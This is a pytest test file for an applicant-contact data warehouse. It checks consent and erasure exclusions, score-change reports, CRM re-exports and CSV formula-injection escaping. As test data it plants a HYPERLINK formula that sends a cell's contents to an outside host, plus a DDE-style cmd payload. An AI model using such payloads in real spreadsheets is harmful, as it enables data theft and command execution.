"""Acted on: whom to contact, what changed and what the CRM is told, over builds of two days.

On the first day, that of the sample, some of its applicants are on the contact list. By the second
one has refused contact, one objects, one is decided, one is erased, and so on: each case is planted
once.
"""

from __future__ import annotations

import csv
import datetime
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from warehouse import ROOT, Warehouse, build, copied_sample, run_dbt

from applicant_personas.command_line.cli import main
from applicant_personas.command_line.export import export, read_record
from applicant_personas.command_line.spreadsheet import csv_text, safe_text

FIRST_DAY, SECOND_DAY = "2026-05-15", "2026-05-20"
MODELS = ["+rpt_contact_list", "+rpt_crm_export", "+rpt_score_changes"]
FORMULA = '=HYPERLINK("http://example.org/?"&A1;"Physics")'
Tables = dict[str, pd.DataFrame]


# --- what is planted ------------------------------------------------------------------------------


@dataclass(frozen=True)
class Applicant:
    """Someone of the sample, and the application."""

    person_id: str
    application_id: str


Change = Callable[[Tables, Applicant], None]


def reaches(stage: str) -> Change:
    """Plant a stage that is reached between the two days."""

    def change(tables: Tables, applicant: Applicant) -> None:
        add_event(tables, applicant.application_id, stage)

    return change


def enrolls_elsewhere(tables: Tables, applicant: Applicant) -> None:
    applications = tables["applications"]
    other = applications[applications["application_id"] == applicant.application_id]
    other = other.assign(application_id="elsewhere")
    tables["applications"] = pd.concat([applications, other], ignore_index=True)
    add_event(tables, "elsewhere", "enrolled")


def says(column: str, value: str) -> Change:
    """Plant a value of the person's record."""

    def change(tables: Tables, applicant: Applicant) -> None:
        persons = tables["persons"]
        persons.loc[persons["person_id"] == applicant.person_id, column] = value

    return change


def refuses_by_a_merged_record(tables: Tables, applicant: Applicant) -> None:
    persons = tables["persons"]
    alias = persons[persons["person_id"] == applicant.person_id].assign(
        person_id="alias", merged_into_person_id=applicant.person_id, can_contact="0"
    )
    tables["persons"] = pd.concat([persons, alias], ignore_index=True)


def is_listed_for_erasure(tables: Tables, applicant: Applicant) -> None:
    tables["erasure_list"] = pd.DataFrame({"person_id": [applicant.person_id]})


def is_missing(tables: Tables, applicant: Applicant) -> None:
    for name, table in tables.items():
        if "person_id" in table.columns and name != "erasure_list":
            tables[name] = table[table["person_id"] != applicant.person_id]


def add_event(tables: Tables, application_id: str, stage: str) -> None:
    event = {"application_id": application_id, "stage": stage, "occurred_at": "2026-05-18 09:00"}
    events = tables["stage_events"]
    tables["stage_events"] = pd.concat([events, pd.DataFrame([event])]).fillna("")


# By the second day they may be in no list.
EXCLUDED = {
    "refuses": says("can_contact", "0"),
    "is silent": says("can_contact", ""),
    "refuses once": refuses_by_a_merged_record,
    "objects": says("profiling_objection", "1"),
    "withdrew": reaches("withdrawn"),
    "denied": reaches("denied"),
    "enrolled": reaches("enrolled"),
    "enrolled elsewhere": enrolls_elsewhere,
    "erased": is_listed_for_erasure,
    "deleted": says("is_deleted", "1"),
    "a test": says("is_test", "1"),
    "missing": is_missing,
}
# And these in no earlier day either.
FORGOTTEN = {"objects", "erased", "deleted", "a test", "missing"}
# Nothing forbids anything here.
STAY = {
    "admitted": reaches("admitted"),
    "submits": reaches("submitted"),
    "plain": lambda tables, applicant: None,
}
CASES = STAY | EXCLUDED


def files_of_the_sample() -> Tables:
    return {
        path.stem: pd.read_csv(path, dtype=str, keep_default_na=False)
        for path in (ROOT / "seeds/sample").glob("*.csv")
    }


def choose(warehouse: Warehouse, tables: Tables) -> dict[str, Applicant]:
    """Choose one of the contact list for each case: with one application, and one record.

    Who submits between the two days is not on it yet.
    """
    listed = warehouse.frame(
        "select person_id, application_id from marts.rpt_contact_list"
        " where phase = 'applied' and stage_since < '2026-05-01' order by contact_rank"
    )
    persons = tables["persons"]
    records = pd.concat([persons["person_id"], persons["merged_into_person_id"]]).value_counts()
    n_applications = tables["applications"]["person_id"].value_counts()
    people = listed["person_id"]
    is_plain = (people.map(records) == 1) & (people.map(n_applications) == 1)
    chosen = listed[is_plain].itertuples(index=False)
    (started,) = warehouse.frame(
        "select person_id, application_id from intermediate.int_applications_as_of as applications"
        " inner join intermediate.int_stages_known using (application_id, known_on)"
        " inner join staging.stg_persons using (person_id)"
        " where is_open and reached_rank = 20 and not has_exited and can_contact"
        " and not profiling_objection and applications_in_cycle = 1 order by all limit 1"
    ).itertuples(index=False)
    known = {"submits": Applicant(*started)}
    return known | {case: Applicant(*next(chosen)) for case in CASES if case not in known}


# --- the builds -----------------------------------------------------------------------------------

SCORES = (
    "select application_id, outcome_stage, phase, probability, persona_key"
    " from marts.fct_enrollment_scores where outcome is null"
)


@dataclass(frozen=True)
class Days:
    """The likelihoods of the first day, and the warehouse and what is exported on the second."""

    applicants: dict[str, Applicant]
    first: pd.DataFrame
    warehouse: Warehouse
    exports: Path

    @property
    def second(self) -> pd.DataFrame:
        return self.warehouse.frame(SCORES)

    def applications(self, *cases: str) -> set[str]:
        return {self.applicants[case].application_id for case in cases}


@pytest.fixture(scope="module")
def days(tmp_path_factory: pytest.TempPathFactory) -> Days:
    """Build the second day beside what the first one left, with all tables made anew."""
    folder = tmp_path_factory.mktemp("acting")
    warehouse = copied_sample(folder)
    tables = files_of_the_sample()
    applicants = choose(warehouse, tables)
    first = warehouse.frame(SCORES)
    for case, change in CASES.items():
        change(tables, applicants[case])
    applications, programs = tables["applications"], tables["programs"]
    (plain,) = applications.loc[
        applications["application_id"] == applicants["plain"].application_id, "program_code"
    ]
    programs.loc[programs["program_code"] == plain, "program_name"] = FORMULA
    source, exports = folder / "input", folder / "exports"
    source.mkdir()
    for name, table in tables.items():
        table.to_csv(source / f"{name}.csv", index=False)
    shutil.rmtree(folder / "target", ignore_errors=True)
    run_dbt(
        folder, "build", "--full-refresh", "--exclude-resource-type", "test", "unit_test",
        "--threads", "2", "--select", *MODELS, as_of=SECOND_DAY, input_path=str(source),
        export_path=str(exports),
    )  # fmt: skip
    for name in ("contact_list", "score_changes", "crm"):
        assert write_list(name, warehouse, exports) == 0
    return Days(applicants, first, warehouse, exports)


def write_list(name: str, warehouse: Warehouse, folder: Path) -> int:
    database = str(warehouse.database)
    return main(["export", name, "--database", database, "--folder", str(folder)])


def read_csv(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, encoding="utf-8-sig")


# --- whom one may contact -------------------------------------------------------------------------


def test_who_refuses_objects_is_decided_erased_or_deleted_is_in_no_list(days: Days) -> None:
    contacts = set(days.warehouse.column("select application_id from marts.rpt_contact_list"))
    assert days.applications(*STAY) <= contacts
    assert not contacts & {*days.applications(*EXCLUDED), "elsewhere"}
    told = set(days.warehouse.column("select application_id from marts.rpt_crm_export"))
    assert told == contacts


def test_no_file_that_is_exported_holds_them(days: Days) -> None:
    excluded = {text for case in EXCLUDED for text in vars(days.applicants[case]).values()}
    found = set()
    for name in ("contact_list.csv", "score_changes.csv", "crm_2*.csv", "crm_exported.csv"):
        (file,) = days.exports.glob(name)
        with file.open(encoding="utf-8-sig", newline="") as lines:
            cells = {cell for line in csv.reader(lines) for cell in line}
        assert not cells & excluded
        found |= cells
    assert days.applications(*STAY) <= found
    assert read_csv(days.exports / "contact_list.csv")["can_contact"].all()


def test_the_middle_of_the_scale_comes_first(days: Days) -> None:
    listed = days.warehouse.frame("select * from marts.rpt_contact_list order by contact_rank")
    assert (listed["probability"] - 0.5).abs().round(9).is_monotonic_increasing
    assert set(listed["phase"]) == {"applied", "admitted", "deposited"}
    assert listed["program_name"].eq(FORMULA).any()
    assert listed[["persona_name", "band", "reason_1", "stage"]].notna().all(axis=None)
    by_person = listed.groupby("person_id")["person_rank"]
    assert (by_person.min() == 1).all()
    assert (by_person.max() == by_person.size()).all()
    assert by_person.size().max() > 1


def test_days_since_the_last_touch_are_those_of_the_files(days: Days) -> None:
    listed = days.warehouse.frame("select * from marts.rpt_contact_list").set_index("person_id")
    touches = days.warehouse.frame(
        "select person_id, max(cast(occurred_at as date)) as last_on"
        f" from staging.stg_interactions where weight > 0 and known_at < '{SECOND_DAY} 24:00'"
        f" and occurred_at <= '{SECOND_DAY} 23:59:59' group by person_id"
    ).set_index("person_id")["last_on"]
    days_ago = (pd.Timestamp(SECOND_DAY) - touches).dt.days.reindex(listed.index)
    assert days_ago.notna().sum() > 400
    assert (listed["days_since_last_touch"].fillna(-1) == days_ago.fillna(-1)).all()


# --- what changed ---------------------------------------------------------------------------------


def test_each_day_is_remembered_and_nobody_who_is_gone(days: Days) -> None:
    history = days.warehouse.frame("select * from marts.fct_score_history")
    by_day = {str(day)[:10]: set(part["application_id"]) for day, part in history.groupby("as_of")}
    assert by_day.keys() == {FIRST_DAY, SECOND_DAY}
    assert by_day[SECOND_DAY] == set(days.second["application_id"])
    gone = days.applications(*FORGOTTEN)
    assert by_day[FIRST_DAY] == set(days.first["application_id"]) - gone
    assert days.applications("withdrew", "refuses") <= by_day[FIRST_DAY]
    assert not {days.applicants[case].person_id for case in FORGOTTEN} & set(history["person_id"])


def test_changes_are_the_difference_of_the_two_days(days: Days) -> None:
    key = ["application_id", "outcome_stage"]
    gone = days.applications(*FORGOTTEN)
    first = days.first[~days.first["application_id"].isin(gone)]
    both = first.merge(days.second, on=key, how="outer", suffixes=("_then", "_now"))
    change = (both["probability_now"] - both["probability_then"]).round(9)
    expected = both[change.isna() | (change.abs() >= 0.05)].sort_values(key, ignore_index=True)
    found = days.warehouse.frame("select * from marts.rpt_score_changes").sort_values(
        key, ignore_index=True
    )
    assert (change.abs() < 0.05).any()
    assert set(found["direction"]) == {"rose", "fell", "entered", "left"}
    pairs = {
        "application_id": "application_id",
        "from_probability": "probability_then", "to_probability": "probability_now",
        "from_phase": "phase_then", "to_phase": "phase_now",
        "from_persona_key": "persona_key_then", "to_persona_key": "persona_key_now",
    }  # fmt: skip
    for name, other in pairs.items():
        pd.testing.assert_series_equal(found[name], expected[other], check_names=False)
    assert set(found["compared_as_of"].astype(str)) == {FIRST_DAY}


def test_why_says_what_happened_since_and_no_model_was_fitted_anew(days: Days) -> None:
    found = days.warehouse.frame("select * from marts.rpt_score_changes").set_index(
        "application_id"
    )
    assert not found["is_refit"].dropna().astype(bool).any()
    admitted, withdrew, plain = (
        days.applicants[case].application_id for case in ("admitted", "withdrew", "plain")
    )
    assert found.loc[admitted, ["from_phase", "to_phase"]].tolist() == ["applied", "admitted"]
    assert found.loc[admitted, "why"] == "Since then: admitted."
    (submits,) = days.applications("submits")
    assert found.loc[submits, ["direction", "why"]].tolist() == [
        "entered", "Since then: submitted."
    ]  # fmt: skip
    assert found.loc[withdrew, "direction"] == "left"
    assert found.loc[withdrew, "why"] == "Since then: withdrawn."
    assert plain not in found.index


# --- what is exported -----------------------------------------------------------------------------


def test_what_was_exported_goes_out_again_when_it_changed_and_not_before(days: Days) -> None:
    """A second export is empty; the next build finds one likelihood moved, and one row lost."""
    record = days.exports / "crm_exported.csv"
    (first_export,) = days.exports.glob("crm_2*.csv")
    told = read_csv(first_export)
    at = datetime.datetime(2030, 1, 1)
    of_sample = ("crm", days.warehouse.database, "marts", days.exports)
    assert len(told) == len(read_record(record)) > 400
    assert export(*of_sample, at).endswith(f": 0 rows new or changed, as known on {SECOND_DAY}.")
    assert read_csv(days.exports / "crm_20300101T000000Z.csv").empty
    assert len(read_record(record)) == len(told)
    moved, still, lost = (*days.applications("plain"), *days.applications("admitted"), "A0001")
    codes = {
        name: days.warehouse.column(f"select md5('{name}')")[0] for name in (moved, still, lost)
    }
    moves = {codes[moved]: 0.05, codes[still]: 0.01}
    with record.open(newline="") as file:
        header, *lines = csv.reader(file)
    for line in lines:
        line[2] = str(round(float(line[2]) + moves.get(line[0], 0), 2))
    kept = [header, *(line for line in lines if line[0] != codes[lost])]
    assert len(kept) == len(lines)
    record.write_text("\n".join(",".join(line) for line in kept) + "\n")
    remembered = days.warehouse.frame("select * from marts.fct_score_history order by all")
    build(
        days.warehouse.database.parent, days.warehouse.database.parent / "input",
        select=["rpt_crm_export", "fct_score_history"], as_of=SECOND_DAY,
        export_path=str(days.exports),
    )  # fmt: skip
    changed = days.warehouse.frame("select application_id, changed from marts.rpt_crm_export")
    assert dict(changed.to_numpy()) == {moved: "likelihood", lost: "new"}
    export(*of_sample, at.replace(year=2031))
    again = read_csv(days.exports / "crm_20310101T000000Z.csv")
    assert set(again["application_id"]) == {moved, lost}
    # The day was built a second time.
    pd.testing.assert_frame_equal(
        days.warehouse.frame("select * from marts.fct_score_history order by all"), remembered
    )


def test_of_whom_is_no_longer_listed_the_record_knows_nothing(days: Days) -> None:
    record = days.exports / "crm_exported.csv"
    lines = record.read_text()
    (withdrew,) = days.applications("withdrew")
    (gone,) = days.warehouse.column(f"select md5('{withdrew}')")
    record.write_text(f"{lines}{gone},x,0.4,2026-05-10 10:00:00\nnonsense\n")
    assert gone in read_record(record)
    export("crm", days.warehouse.database, "marts", days.exports, datetime.datetime(2032, 1, 1))
    assert record.read_text() == lines


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_runs_as_a_formula_and_numbers_stay_numbers(days: Days, delimiter: str) -> None:
    files = sorted(days.exports.glob("*.csv"))
    assert len(files) >= 4
    for path in files:
        with path.open(encoding="utf-8-sig", newline="") as file:
            cells = {cell for line in csv.reader(file, delimiter=delimiter) for cell in line}
        suspects = [cell for cell in cells if cell.strip(" '\"\t").startswith(tuple("=+-@"))]
        running = [cell for cell in suspects if not cell.startswith("'") and not is_number(cell)]
        assert not running
    listed = read_csv(days.exports / "contact_list.csv")
    assert listed["program_name"].str.startswith("'=HYPERLINK").any()
    changes = read_csv(days.exports / "score_changes.csv")
    assert changes["change"].min() < 0 < changes["change"].max()
    assert listed["probability"].dtype == changes["change"].dtype == float


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@sum(a1)", "'@sum(a1)"),
        ("\t=1", "' =1"),
        ("\r\n=1", "' =1"),
        ('"=1"', '\'"=1"'),
        ("  '=1", "'  '=1"),
        ("\ufeff\u200b=1", "'\ufeff\u200b=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Smith;=1+1", "Smith;'=1+1"),
        ("a\tb\x00c", "a b c"),
        ("-1", "-1"),
        ("+4.5", "+4.5"),
        ("-", "'-"),
        ("Campus-visiting (raises)", "Campus-visiting (raises)"),
        ("", ""),
    ],
)
def test_what_begins_a_formula_gets_an_apostrophe(text: str, safe: str) -> None:
    assert safe_text(text) == safe


def test_cells_keep_their_kind() -> None:
    rows = [[-0.5, 3, True, None, datetime.date(2026, 5, 1), 'a "b", c']]
    assert csv_text([*"abcdef"], rows) == (
        "\ufeffa,b,c,d,e,f\r\n-0.5,3,true,,2026-05-01,\"a \"\"b\"\", c\"\r\n"
    )  # fmt: skip


def test_what_can_not_be_exported_is_a_sentence(
    days: Days, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert write_list("crm", Warehouse(tmp_path / "none.duckdb"), tmp_path) == 2
    assert "There is no database at" in capsys.readouterr().err
    database = ["--database", str(days.warehouse.database), "--folder", str(tmp_path)]
    assert main(["export", "crm", "--schema", "other", *database]) == 2
    assert "has no marts in a schema other" in capsys.readouterr().err
    for status in ("building", "complete"):
        set_status(days.warehouse, status)
        assert main(["export", "crm", *database]) == (2 if status == "building" else 0)
        said = capsys.readouterr()
        assert ("is building, so its tables may be of different days" in said.err) == (
            status == "building"
        )
    assert len(list(tmp_path.glob("*.csv"))) == 2


def set_status(warehouse: Warehouse, status: str) -> None:
    (schema,) = warehouse.column(
        "select table_schema from information_schema.tables where table_name = 'dq_build_status'"
    )
    with duckdb.connect(str(warehouse.database)) as connection:
        connection.execute(f"update {schema}.dq_build_status set status = '{status}'")
